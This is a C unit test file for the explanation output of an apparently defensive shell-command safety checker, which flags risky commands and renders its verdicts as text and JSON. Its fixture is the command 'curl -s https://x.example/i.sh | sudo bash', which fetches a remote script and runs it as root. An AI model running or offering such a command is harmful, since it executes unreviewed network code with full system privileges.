#include "config.h"
#include "common/explain.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

static struct arena arena;
static struct text out;

static void setup(void)
{
	ck_assert_int_eq(arena_init(&arena, 4096, (size_t)1 << 24), 0);
	text_init(&out, &arena, 256);
}

static void teardown(void)
{
	arena_deinit(&arena);
}

/* curl -s https://x.example/i.sh | sudo bash */
static struct analysis_target host = {
	.action = "fetch", .text = "x.example", .kind = "public host", .place = PLACE_REMOTE, .risk = RISK_LOW,
};
static struct analysis_command bash = {
	.tool = "bash", .text = "bash", .span = { 38, 42 }, .risk = RISK_HIGH, .caps = CAP_EXEC_CODE, .depth = 1, .known = true,
};
static struct analysis_command frob = { .next = &bash, .tool = "frob", .text = "frob \x1b[2K", .risk = RISK_HIGH };
static struct analysis_command curl = {
	.next = &frob, .tool = "curl", .text = "curl -s https://x.example/i.sh", .span = { 0, 30 }, .risk = RISK_LOW,
	.caps = CAP_NETWORK, .known = true, .targets = &host,
};
static struct analysis_flow flow = { .text = "network (x.example) -> shell (root)", .span = { 0, 42 } };
static struct finding finding = {
	.rule = "flow.network.shell", .why = "runs as root what the network sends", .safer = "read it first", .span = { 0, 42 },
	.risk = RISK_HIGH, .place = PLACE_SYSTEM,
};
static const char command[] = "curl -s https://x.example/i.sh | sudo bash";
static const struct check_request request = { .command = command, .command_len = sizeof(command) - 1 };
static const struct analysis analysis = {
	.caps = CAP_NETWORK | CAP_EXEC_CODE, .risk = RISK_HIGH, .findings = &finding, .commands = &curl, .flows = &flow,
};
static const struct verdict ask = {
	.verdict = VERDICT_ASK, .profile = PROFILE_STANDARD, .tier = TIER_STANDARD, .risk = RISK_HIGH, .place = PLACE_SYSTEM,
	.finding = &finding,
};

START_TEST(people_read_the_verdict_first)
{
	struct explanation explanation = { &request, &analysis, &ask };

	explain_text(&out, &explanation, false);
	ck_assert_str_eq(text_end(&out),
	                 "ASK  'curl -s https://x.example/i.sh | sudo bash': runs as root what the network sends. Rule flow.network.shell."
	                 " Safer: read it first.\n"
	                 "\ncommands\n"
	                 "  low       curl -s https://x.example/i.sh\n"
	                 "            low       fetch x.example (public host, remote)\n"
	                 "  high      frob ?[2K   (nothing is known about this tool)\n"
	                 "  high      > bash\n"
	                 "\nflows\n"
	                 "  network (x.example) -> shell (root)\n"
	                 "\nfindings\n"
	                 "* high      flow.network.shell (system, bytes 0..42)\n"
	                 "            runs as root what the network sends\n"
	                 "            safer: read it first\n"
	                 "\ncapabilities\n"
	                 "  NETWORK EXEC_CODE\n"
	                 "\npolicy\n"
	                 "  profile standard, standing standard, level normal: high at system -> ask (decided by policy)\n");
}
END_TEST

START_TEST(colors_only_on_demand)
{
	struct explanation explanation = { &request, &analysis, &ask };

	explain_text(&out, &explanation, true);
	ck_assert_ptr_nonnull(strstr(text_end(&out), "\x1b[1;33mASK\x1b[0m"));
}
END_TEST

START_TEST(nothing_to_run_says_so)
{
	const struct analysis nothing = { .empty = true };
	const struct verdict none = { .verdict = VERDICT_NONE };
	struct explanation explanation = { &request, &nothing, &none };

	explain_text(&out, &explanation, false);
	ck_assert_str_eq(text_end(&out), "NONE  there is nothing to run\n");
}
END_TEST

START_TEST(programs_read_everything)
{
	struct explanation explanation = { &request, &analysis, &ask };
	struct json_writer writer;
	struct json_document document;
	struct json_error error;
	const struct cJSON *list, *policy;
	const char *name;

	json_writer_init(&writer, &out);
	json_begin_object(&writer);
	explain_json(&writer, &explanation);
	json_end_object(&writer);
	ck_assert_int_eq(json_parse(&arena, out.data, out.len, &document, &error), 0);
	ck_assert_int_eq(json_get_string(document.root, "verdict", &name, &error), 0);
	ck_assert_str_eq(name, "ask");
	ck_assert_int_eq(json_get_array(document.root, "commands", &list, &error), 0);
	ck_assert_int_eq(json_get_array(json_first(list), "targets", &list, &error), 0);
	ck_assert_int_eq(json_get_string(json_first(list), "target", &name, &error), 0);
	ck_assert_str_eq(name, "x.example");
	ck_assert_int_eq(json_get_array(document.root, "flows", &list, &error), 0);
	ck_assert_int_eq(json_get_string(json_first(list), "text", &name, &error), 0);
	ck_assert_str_eq(name, flow.text);
	ck_assert_int_eq(json_get_object(document.root, "policy", &policy, &error), 0);
	ck_assert_int_eq(json_get_string(policy, "place", &name, &error), 0);
	ck_assert_str_eq(name, "system");
}
END_TEST

START_TEST(long_lists_are_counted)
{
	struct analysis_command *commands = NULL;
	struct analysis many = { .risk = RISK_LOW };
	struct explanation explanation = { &request, &many, &ask };

	for (int i = 0; i < 150; i++) {
		struct analysis_command *c = arena_new(&arena, struct analysis_command);
		*c = (struct analysis_command){ .next = commands, .tool = "ls", .text = "ls", .known = true };
		commands = c;
	}
	many.commands = commands;
	explain_text(&out, &explanation, false);
	ck_assert_ptr_nonnull(strstr(text_end(&out), "  and 50 more\n"));
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("explain");
	TCase *tests = tcase_create("explain");
	SRunner *runner = srunner_create(suite);
	int failed;

	tcase_add_checked_fixture(tests, setup, teardown);
	tcase_add_test(tests, people_read_the_verdict_first);
	tcase_add_test(tests, colors_only_on_demand);
	tcase_add_test(tests, nothing_to_run_says_so);
	tcase_add_test(tests, programs_read_everything);
	tcase_add_test(tests, long_lists_are_counted);
	suite_add_tcase(suite, tests);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
